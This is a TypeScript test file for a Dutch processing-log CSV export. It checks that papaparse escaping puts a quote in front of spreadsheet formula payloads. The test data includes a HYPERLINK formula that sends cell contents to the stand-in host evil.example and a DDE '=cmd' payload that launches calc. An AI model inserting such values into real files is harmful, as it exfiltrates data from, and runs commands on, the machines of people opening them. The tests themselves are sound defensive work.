import Papa from 'papaparse';
import { describe, expect, it } from 'vitest';
import { CSV_FORMULA_START } from './csv';
import { logToCsv } from '@/features/verwerkingen/model/export';
import type { LogEvent } from '@/features/verwerkingen/model/log';

const cell = (value: string, escapeFormulae: boolean | RegExp) => Papa.unparse([{ v: value }], { columns: ['v'], escapeFormulae, header: false });

describe('CSV formula escaping (issue 17, finding 7)', () => {
  const formulas = [
    '=HYPERLINK("https://evil.example/?d="&A1,"klik")\n',
    '=1+1\r\nnog een regel',
    '\r=cmd|\' /C calc\'!A0',
    '\t=1+1',
    '+31 6 12345678',
    '-2+3',
    '@SUM(1,1)',
    '=HYPERLINK("x")',
  ];

  it.each(formulas)('puts a quote before %j', (value) => {
    expect(Papa.parse<string[]>(cell(value, CSV_FORMULA_START)).data[0]?.[0]).toBe(`'${value}`);
  });

  it('papaparse’s own default misses a formula followed by a line break (why the pattern exists)', () => {
    expect(Papa.parse<string[]>(cell(formulas[0]!, true)).data[0]?.[0]).toBe(formulas[0]);
  });

  it.each(['Rotterdam', '2026-11-28', 'a=b', ' =1', 'Zoë'])('leaves %j alone', (value) => {
    expect(Papa.parse<string[]>(cell(value, CSV_FORMULA_START)).data[0]?.[0]).toBe(value);
  });

  it('the processing-log export escapes such a value', () => {
    const event = { start: Date.UTC(2026, 10, 28), organisation: '=HYPERLINK("https://evil.example","x")\n', recipient: undefined, action: 'a', purpose: 'p', legalBasis: 'g', categories: [], human: false, provision: 'n', traceId: 't', spanId: 's' } as unknown as LogEvent;
    const rows = Papa.parse<string[]>(logToCsv([event], () => 'BRP').replace(/^\uFEFF/, '')).data;
    expect(rows[1]?.[1]).toBe(`'=HYPERLINK("https://evil.example","x")\n`);
  });
});
